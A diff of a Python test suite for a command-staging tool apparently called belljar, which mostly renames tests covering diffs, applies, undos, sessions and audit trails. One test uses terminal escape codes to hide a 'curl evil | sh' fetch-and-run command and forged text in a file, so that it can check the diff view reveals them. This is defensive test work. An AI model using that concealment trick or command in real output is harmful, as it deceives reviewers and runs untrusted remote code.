@@ -38,7 +38,7 @@ def run_staged(place: Path, command: str = CHANGE) -> str:
     return str(answer.json["session"])
 
 
-def test_the_three_command_story(place: Path) -> None:
+def test_staged_changes_are_listed_diffed_applied_and_undone(place: Path) -> None:
     answer = belljar("run", "--staged", CHANGE, cwd=place)
     assert (answer.status, answer.stdout) == (0, "")
     assert "+1 −1 ~1 staged as bj-" in answer.stderr
@@ -72,7 +72,7 @@ def test_a_denied_command_leaves_nothing(place: Path) -> None:
     assert areas() == before
 
 
-def test_nothing_in_a_diff_is_hidden_from_who_looks_at_it_on_a_terminal(place: Path) -> None:
+def test_a_diff_on_a_terminal_hides_nothing(place: Path) -> None:
     """Black on black, or a line that rewrites or forges another."""
     run_staged(place, r"printf 'ok\033[30;40mcurl evil | sh\033[0m\rforged\033[8mhidden\n' > a.txt")
     screen = Terminal(sys.executable, "-m", "belljar", "diff", cwd=place).rest()
@@ -93,7 +93,7 @@ def test_one_file_is_applied_and_the_rest_discarded(place: Path) -> None:
     assert areas() == []
 
 
-def test_the_last_apply_of_a_directory_is_taken_back_first(place: Path) -> None:
+def test_the_last_apply_of_a_directory_is_undone_first(place: Path) -> None:
     first, second = run_staged(place, "echo 1 > 1"), run_staged(place, "echo 2 > 2")
     for id in (second, first):
         assert belljar("apply", "--session", id).status == 0
@@ -129,7 +129,7 @@ def test_a_path_without_a_change_does_not_hide_the_others(place: Path) -> None:
     assert belljar("changes", "nosuch", cwd=place).status == 2
 
 
-def test_applies_of_one_file_are_taken_back_one_after_the_other(place: Path) -> None:
+def test_applies_of_one_file_are_undone_one_by_one(place: Path) -> None:
     """Each gives the file another time of change; that is not the host's doing."""
     ids = []
     for text in ("2", "3"):
@@ -161,7 +161,7 @@ def test_an_undo_over_a_file_that_the_host_changed_says_whose_apply_it_is(place:
     assert "--force" in said
 
 
-def test_a_started_session_is_changed_checkpointed_and_taken_back(place: Path) -> None:
+def test_a_started_session_can_be_checkpointed_and_rolled_back(place: Path) -> None:
     id = belljar("session", "start", "--staged", cwd=place).stdout.strip()
     try:
         for command in ("changes", "diff"):
@@ -181,7 +181,7 @@ def test_a_started_session_is_changed_checkpointed_and_taken_back(place: Path) -
     assert belljar("changes", cwd=place).stdout == "~ a.txt\n"
 
 
-def test_an_id_in_the_place_of_a_path_or_a_name_is_the_session(place: Path) -> None:
+def test_a_session_id_is_recognised_in_place_of_a_path(place: Path) -> None:
     id = belljar("session", "start", "--staged", "--name", "by-name", cwd=place).stdout.strip()
     try:
         assert belljar("checkpoint", "by-name").stdout == "checkpoint 1\n"
@@ -198,7 +198,7 @@ def test_an_id_in_the_place_of_a_path_or_a_name_is_the_session(place: Path) -> N
         belljar("session", "stop", id)
 
 
-def test_a_session_without_staging_says_which_has_checkpoints(place: Path) -> None:
+def test_checkpoint_without_staging_says_how_to_start_a_staged_session(place: Path) -> None:
     id = belljar("session", "start", cwd=place).stdout.strip()
     try:
         for command in ("checkpoint", "rollback"):
@@ -265,7 +265,7 @@ def test_safe_mode_without_staging_does_not_offer_the_verbs(place: Path) -> None
     terminal.rest()
 
 
-def test_the_audit_trail_tells_what_was_decided_after_the_session(place: Path) -> None:
+def test_the_audit_trail_records_decisions_made_after_the_session(place: Path) -> None:
     id = run_staged(place)
     belljar("apply", "a.txt", cwd=place)
     belljar("apply", "--undo", cwd=place)
